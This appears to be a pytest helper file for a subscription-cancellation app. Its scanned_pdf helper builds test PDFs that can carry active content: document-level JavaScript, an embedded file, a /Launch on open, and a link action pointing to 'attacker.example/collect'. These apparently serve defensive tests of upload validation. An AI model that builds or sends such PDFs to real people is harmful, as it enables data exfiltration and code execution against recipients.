import base64
import io
from datetime import date, datetime

import pytest
from PIL import Image, ImageDraw
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from cancellations.models import CancellationRequest
from cancellations.services import Draft, request_submit
from customers.models import Customer
from toolbox.noumea import NOUMEA

NOW = datetime(2026, 11, 26, 10, tzinfo=NOUMEA)


def submit(customer: Customer, reference: str, **fields: object) -> CancellationRequest:
    values: dict[str, object] = {"desired_date": date(2026, 12, 31), "kind": "definitive", **fields}
    draft = Draft(subscription=customer.subscriptions.get(reference=reference), **values)  # type: ignore[arg-type]
    return request_submit(customer=customer, draft=draft, actor=customer.user, now=NOW)


def scanned_pdf(
    *,
    javascript: str = "",
    attachment: bytes = b"",
    open_action: bool = False,
    link_action: str = "",
    pages: int = 1,
) -> bytes:
    """A PDF as a scanner or "print to PDF" makes it, optionally made active: a script,
    an attached file, a /Launch on opening, or a link whose action is `link_action`
    (/SubmitForm, /GoToR …)."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    if link_action:
        action = DictionaryObject(
            {
                NameObject("/S"): NameObject(link_action),
                NameObject("/F"): TextStringObject("https://attacker.example/collect"),
            }
        )
        link = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0),
                                                  NumberObject(595), NumberObject(842)]),
                NameObject("/A"): action,
            }
        )  # fmt: skip
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    if javascript:  # a document-level script, run when the file is opened
        action = DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject(javascript),
            }
        )
        names = ArrayObject([TextStringObject("init"), writer._add_object(action)])
        tree = DictionaryObject({NameObject("/Names"): names})
        writer._root_object[NameObject("/Names")] = DictionaryObject(
            {NameObject("/JavaScript"): writer._add_object(tree)}
        )
    if attachment:
        writer.add_attachment("extra.bin", attachment)
    if open_action:
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
            {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("x")}
        )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def drawn_png(blank: bool = False) -> str:
    image = Image.new("RGBA", (600, 200), (0, 0, 0, 0))
    if not blank:
        ImageDraw.Draw(image).line(
            [(40, 150), (200, 40), (320, 160), (560, 60)], fill=(0, 0, 0, 255), width=6
        )
    out = io.BytesIO()
    image.save(out, format="PNG")
    return "data:image/png;base64," + base64.b64encode(out.getvalue()).decode()


@pytest.fixture
def fibre_request(alice: Customer) -> CancellationRequest:
    return submit(alice, "SUB-A-1")
